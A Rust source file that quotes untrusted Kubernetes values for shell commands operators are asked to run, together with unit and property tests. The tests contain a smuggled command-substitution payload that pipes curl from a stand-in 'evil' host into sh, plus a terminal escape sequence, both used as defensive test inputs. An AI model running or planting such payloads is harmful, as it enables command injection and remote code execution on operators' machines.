//! Quotes values for the commands that operators are asked to run. Group names, and all text on a Node, are untrusted.

use std::borrow::Cow;

use crate::base::printable::printable;

/// Returns a value as one word of a POSIX shell, on one line. A character that controls a terminal becomes U+FFFD.
pub fn quote(value: &str) -> Cow<'_, str> {
    let on_a_line = printable(value).replace('\n', "\u{fffd}");
    if on_a_line != value {
        return Cow::Owned(quote(&on_a_line).into_owned());
    }
    // Only NUL cannot be quoted. It is a control character, and was replaced above.
    shlex::try_quote(value).unwrap_or(Cow::Borrowed("''"))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn a_value_becomes_one_word() {
        for (value, expected) in [
            ("workers", "workers"),
            ("eks-workers_1.a/b", "eks-workers_1.a/b"),
            ("it's mine", "\"it's mine\""),
            ("x$(curl -s evil|sh)", "'x$(curl -s evil|sh)'"),
            ("", "''"),
            ("a\u{202e}b\nc", "\'a\u{fffd}b\u{fffd}c\'"),
            ("a\u{1b}]52;c;eA==\u{7}", "'a\u{fffd}]52;c;eA==\u{fffd}'"),
        ] {
            assert_eq!(quote(value), expected);
        }
    }

    proptest! {
        #[test]
        fn a_shell_reads_a_quoted_value_as_it_was(value in "\\PC{0,40}") {
            let command = format!("kubectl annotate {} node", quote(&value));
            prop_assert_eq!(shlex::split(&command), Some(vec!["kubectl".to_owned(), "annotate".to_owned(), value, "node".to_owned()]));
        }
    }
}
